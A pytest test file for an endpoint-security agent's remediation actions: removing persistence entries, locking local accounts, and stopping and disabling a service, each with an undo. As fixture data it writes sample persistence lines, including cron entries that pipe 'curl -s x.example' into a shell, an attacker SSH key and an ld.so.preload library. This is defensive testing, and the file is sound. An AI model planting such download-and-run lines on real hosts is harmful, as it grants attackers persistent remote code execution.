"""RemovePersistenceEntry, DisableLocalUser and StopAndDisableService on a test root, through the action worker
with signed commands and real processes; each undo puts the host back as it was."""

from __future__ import annotations

import secrets
import shutil
import subprocess
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from vigil.agent.actions.base import PERSISTENCE_ROOT_ENV, ActionSettings
from vigil.agent.actions.worker import ActionWorker
from vigil.agent.identity import Identity
from vigil.wire import ActionCommand, ActionResult, CommandPoll, SignedCommand, public_key_text, sign_command

KEY = Ed25519PrivateKey.generate()
NOW = datetime.now(UTC)


class _Clock:
    def now(self) -> datetime:
        return NOW

    def monotonic(self) -> float:
        return time.monotonic()


class _Transport:
    def poll_commands(self, wait: float) -> CommandPoll:
        return CommandPoll(commands=[])

    def report_result(self, action_id: str, result: ActionResult) -> None:
        pass

    def upload_artifact(self, action_id: str, file: Path) -> None:
        raise AssertionError("remediations upload nothing")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    r = tmp_path / "root"
    (r / "etc").mkdir(parents=True)
    return r


@pytest.fixture
def worker(tmp_path: Path, root: Path) -> Iterator[ActionWorker]:
    (tmp_path / "state").mkdir()
    settings = ActionSettings.from_env(tmp_path / "state", "https://127.0.0.1:1", {PERSISTENCE_ROOT_ENV: str(root)})
    identity = Identity("dev-1", "vgd_x", "https://127.0.0.1:1", "", "", "now", action_public_key=public_key_text(KEY))
    w = ActionWorker(identity, _Transport(), _Clock(), settings, lambda _a, _f: None)  # type: ignore[arg-type]
    yield w
    w.stop()


def _run(w: ActionWorker, kind: str, **parameters: Any) -> tuple[str, ActionResult]:
    action_id = secrets.token_hex(8)
    signed: SignedCommand = sign_command(KEY, ActionCommand(
        action_id=action_id, device_id="dev-1", type=kind, parameters=parameters, issued_at=NOW,
        expires_at=NOW + timedelta(hours=1), nonce=secrets.token_hex(16)))
    return action_id, w.handle(signed)


def _ok(w: ActionWorker, kind: str, **parameters: Any) -> tuple[str, ActionResult]:
    action_id, result = _run(w, kind, **parameters)
    assert result.status == "Succeeded", result.message
    return action_id, result


def test_remove_persistence_lines_match_and_whole_file_then_restore(worker: ActionWorker, root: Path) -> None:
    profile = root / "home" / "alice" / ".bashrc"
    profile.parent.mkdir(parents=True)
    profile.write_text("alias ll='ls -l'\n/tmp/.x/beacon &  # keep me alive\nexport EDITOR=vi\n")
    keys = root / "root" / ".ssh" / "authorized_keys"
    keys.parent.mkdir(parents=True)
    good, bad = "ssh-ed25519 AAAAC3Nz...good admin@corp", "ssh-ed25519 AAAAC3Nz...evil attacker@x"
    keys.write_text(f"{good}\n{bad}\n")
    preload = root / "etc" / "ld.so.preload"
    preload.write_text("/usr/lib/libevil.so\n")
    preload.chmod(0o640)

    by_match, r = _ok(worker, "RemovePersistenceEntry", Path=str(profile), Match="/tmp/.x/beacon")
    assert r.output["lines"] == ["/tmp/.x/beacon &  # keep me alive"]
    assert profile.read_text() == "alias ll='ls -l'\nexport EDITOR=vi\n"
    by_lines, _ = _ok(worker, "RemovePersistenceEntry", Path=str(keys), Lines=[bad])
    assert keys.read_text() == f"{good}\n"
    whole, r = _ok(worker, "RemovePersistenceEntry", Path=str(preload))
    assert not preload.exists() and "kept for undo" in r.message

    # A file that is not a persistence place is refused, and so is a line the file does not hold.
    (root / "etc" / "hosts").write_text("127.0.0.1 localhost\n")
    _, r = _run(worker, "RemovePersistenceEntry", Path=str(root / "etc" / "hosts"))
    assert r.status == "Failed" and "is not a persistence file" in r.message
    assert (root / "etc" / "hosts").exists()
    _, r = _run(worker, "RemovePersistenceEntry", Path=str(keys), Lines=["ssh-rsa nothere"])
    assert r.status == "Failed" and "has no line" in r.message and keys.read_text() == f"{good}\n"

    _ok(worker, "RestorePersistenceEntry", UndoOf=by_match)
    assert "/tmp/.x/beacon &  # keep me alive" in profile.read_text().splitlines()
    _ok(worker, "RestorePersistenceEntry", UndoOf=by_lines)
    assert keys.read_text().splitlines() == [good, bad]
    _ok(worker, "RestorePersistenceEntry", UndoOf=whole)
    assert preload.read_text() == "/usr/lib/libevil.so\n" and preload.stat().st_mode & 0o777 == 0o640
    # Undone once, there is nothing left to undo.
    _, r = _run(worker, "RestorePersistenceEntry", UndoOf=whole)
    assert r.status == "Failed" and "no record of action" in r.message


PASSWD = "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nmallory:x:1001:1001::/home/mallory:/bin/bash\n" \
         "bob:x:1002:1002::/home/bob:/bin/bash\n"
SHADOW = "root:$y$j9T$abc$def:19700:0:99999:7:::\ntoor:*:19700:0:99999:7:::\n" \
         "mallory:$y$j9T$salt$hash:19700:0:99999:7:::\nbob:!$y$j9T$s$h:19700:0:99999:7::20000:\n"


def test_disable_local_user_locks_and_expires_and_undo_restores_the_shadow_file(worker: ActionWorker,
                                                                                 root: Path) -> None:
    (root / "etc" / "passwd").write_text(PASSWD)
    shadow = root / "etc" / "shadow"
    shadow.write_text(SHADOW)
    shadow.chmod(0o640)

    mallory, r = _ok(worker, "DisableLocalUser", AccountName="mallory")
    lines = shadow.read_text().splitlines()
    assert lines[2] == "mallory:!$y$j9T$salt$hash:19700:0:99999:7::1:"
    assert lines[:2] == SHADOW.splitlines()[:2] and lines[3] == SHADOW.splitlines()[3]
    assert shadow.stat().st_mode & 0o777 == 0o640
    # bob's password was locked already and his account expires on day 20000: undo brings back exactly that.
    bob, _ = _ok(worker, "DisableLocalUser", AccountName="bob")
    assert shadow.read_text().splitlines()[3] == "bob:!$y$j9T$s$h:19700:0:99999:7::1:"

    _, r = _run(worker, "DisableLocalUser", AccountName="toor")
    assert r.status == "Failed" and "uid 0" in r.message
    _, r = _run(worker, "DisableLocalUser", AccountName="nobody2")
    assert r.status == "Failed" and "no local account 'nobody2'" in r.message

    _ok(worker, "EnableLocalUser", UndoOf=mallory)
    _ok(worker, "EnableLocalUser", UndoOf=bob)
    assert shadow.read_text() == SHADOW


def _enabled(root: Path, unit: str) -> str:
    return subprocess.run(["systemctl", f"--root={root}", "is-enabled", unit], capture_output=True, text=True,
                          check=False).stdout.strip()


def test_stop_and_disable_service_kills_its_program_and_undo_enables_it_again(worker: ActionWorker, root: Path,
                                                                              tmp_path: Path) -> None:
    if shutil.which("systemctl") is None:
        pytest.skip("systemctl is not installed")
    payload = tmp_path / "drop" / "updater"
    payload.parent.mkdir()
    shutil.copy("/bin/sleep", payload)
    units = root / "etc" / "systemd" / "system"
    units.mkdir(parents=True)
    (units / "updater.service").write_text(f"[Unit]\nDescription=updater\n[Service]\nExecStart=-{payload} 300\n"
                                           "[Install]\nWantedBy=multi-user.target\n")
    subprocess.run(["systemctl", f"--root={root}", "enable", "updater.service"], check=True, capture_output=True)
    assert _enabled(root, "updater.service") == "enabled"
    bystander = subprocess.Popen(["/bin/sleep", "300"])
    running = subprocess.Popen([str(payload), "300"])
    try:
        stop, r = _ok(worker, "StopAndDisableService", Unit="updater.service")
        assert running.wait(10) == -9
        assert bystander.poll() is None
        assert _enabled(root, "updater.service") == "disabled"
        assert r.output["links"] == [[str(units / "multi-user.target.wants" / "updater.service"),
                                      "/etc/systemd/system/updater.service"]]
        _, r = _run(worker, "StopAndDisableService", Unit="absent.service")
        assert r.status == "Failed" and "no unit file absent.service" in r.message

        _, r = _ok(worker, "StartAndEnableService", UndoOf=stop)
        assert _enabled(root, "updater.service") == "enabled"
        assert "starts again at the next boot" in r.message
    finally:
        for p in (bystander, running):
            p.kill()
            p.wait()


def test_a_match_alone_removes_the_entry_wherever_it_is_and_quarantine_leaves_kept_files(worker: ActionWorker,
                                                                                        root: Path,
                                                                                        tmp_path: Path) -> None:
    crontab = root / "etc" / "crontab"
    crontab.write_text("17 * * * * root cd / && run-parts /etc/cron.hourly\n* * * * * root curl -s x.example|sh\n")
    spool = root / "var" / "spool" / "cron" / "crontabs" / "ann"
    spool.parent.mkdir(parents=True)
    spool.write_text("@reboot curl -s x.example|sh\n")
    removed, r = _ok(worker, "RemovePersistenceEntry", Match="curl -s x.example|sh")
    assert crontab.read_text() == "17 * * * * root cd / && run-parts /etc/cron.hourly\n" and spool.read_text() == ""
    assert sorted(f["path"] for f in r.output["files"]) == [str(crontab), str(spool)]
    _ok(worker, "RestorePersistenceEntry", UndoOf=removed)
    assert "* * * * * root curl -s x.example|sh" in crontab.read_text().splitlines()
    assert spool.read_text() == "@reboot curl -s x.example|sh\n"

    # A quarantine told to keep a persistence file (the investigation removes it by its own action) leaves it.
    payload = tmp_path / "drop" / "p.sh"
    payload.parent.mkdir()
    payload.write_text("#!/bin/sh\n")
    dropin = root / "etc" / "cron.d" / "p"
    dropin.parent.mkdir()
    dropin.write_text(f"* * * * * root {payload}\n")
    crontab.write_text(f"* * * * * root {payload}\n")
    _ok(worker, "StopAndQuarantineFile", Path=str(payload), KeepPersistence=[str(dropin)])
    assert dropin.read_text() == f"* * * * * root {payload}\n" and crontab.read_text() == ""
